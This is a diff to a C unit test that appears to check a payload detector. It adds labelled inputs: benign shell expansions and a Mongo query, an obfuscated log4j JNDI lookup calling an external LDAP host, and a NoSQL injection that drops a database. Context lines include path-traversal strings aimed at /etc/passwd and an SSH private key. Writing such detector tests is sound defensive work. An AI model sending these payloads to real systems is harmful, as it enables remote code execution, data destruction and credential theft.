@@ -239,6 +239,13 @@ static void test_merge16_review(void **st)
 		{"../../../../etc/passwd", PAYLOAD_TRAVERSAL},
 		{"../../../../../index.html", PAYLOAD_TRAVERSAL},
 		{"/home/jdoe/.ssh/id_rsa", PAYLOAD_TRAVERSAL},
+		/* helper e, session 17: a shell default spelling a log4j
+		 * prefix (note17, jndi 75), a how-to's mongo query (80) */
+		{"x=1; ${DOCKER:-\"docker\"} compose up -d", N},
+		{"echo ${ENV:-production}", N},
+		{"db.users.find({ age: { $gt: 18 } })", N},
+		{"${${env:-j}ndi:ldap://oob.example/a}", PAYLOAD_JNDI},
+		{"';db.dropDatabase();'", PAYLOAD_NOSQLI},
 	};
 
 	(void)st;
